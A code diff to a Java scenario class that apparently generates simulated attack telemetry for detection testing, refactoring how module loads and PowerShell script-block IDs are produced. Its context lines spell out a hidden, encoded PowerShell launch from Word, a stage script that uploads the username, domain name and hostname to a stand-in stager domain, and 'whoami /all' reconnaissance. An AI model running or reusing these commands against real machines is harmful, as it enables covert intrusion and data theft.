@@ -3,9 +3,11 @@ package io.helklab.samples.generator.scenario;
 import io.helklab.samples.AttackTechnique;
 import io.helklab.samples.RecordFormat;
 import io.helklab.samples.generator.HelkValues;
+import io.helklab.samples.generator.domain.ImageCatalog;
 import io.helklab.samples.generator.domain.InternetDirectory;
 import io.helklab.samples.generator.domain.SimulatedProcess;
 import io.helklab.samples.generator.event.LogChannel;
+import io.helklab.samples.generator.event.PowerShellEvents;
 import io.helklab.samples.generator.simulation.HostSimulation;
 import io.helklab.samples.generator.simulation.UserDesktop;
 
@@ -54,13 +56,13 @@ public final class EncodedPowerShellCradle extends AttackScenario {
         SimulatedProcess powershell = workstation.start(launched, winword, AttackTools.POWERSHELL,
                 "powershell.exe -NoP -NonI -W Hidden -Enc " + AttackTools.encodedCommand(cradle), desktop.session(), "Medium",
                 desktop.profileDirectory() + "\\Documents\\");
-        workstation.loadModules(launched.plusMillis(300), powershell, AttackTools.POWERSHELL_MODULES);
-        workstation.powershell().scriptBlock(launched.plusSeconds(1), powershell, cradle, AttackTools.scriptBlockId(context.random()), true);
+        workstation.loadModules(launched.plusMillis(300), powershell, ImageCatalog.POWERSHELL_RUNTIME_MODULES);
+        workstation.powershell().scriptBlock(launched.plusSeconds(1), powershell, cradle, PowerShellEvents.newScriptBlockId(context.random()), true);
         Instant connected = workstation.network().lookupAndConnect(launched.plusSeconds(2), powershell, STAGER_DOMAIN, 80);
         String stage = "$u=[Environment]::UserName;$d=([ADSI]'').distinguishedName;$h=hostname;\n"
                 + "$s=New-Object Net.WebClient;$s.Headers.Add('User-Agent','Mozilla/5.0');\n"
                 + "$s.UploadString('http://" + STAGER_DOMAIN + "/api/v1/ping',\"$u|$d|$h\")";
-        workstation.powershell().scriptBlock(connected.plusSeconds(1), powershell, stage, AttackTools.scriptBlockId(context.random()), true);
+        workstation.powershell().scriptBlock(connected.plusSeconds(1), powershell, stage, PowerShellEvents.newScriptBlockId(context.random()), true);
         SimulatedProcess whoami = workstation.start(connected.plusSeconds(3), powershell, "C:\\Windows\\System32\\whoami.exe",
                 "\"C:\\Windows\\system32\\whoami.exe\" /all");
         workstation.terminate(connected.plusSeconds(4), whoami);
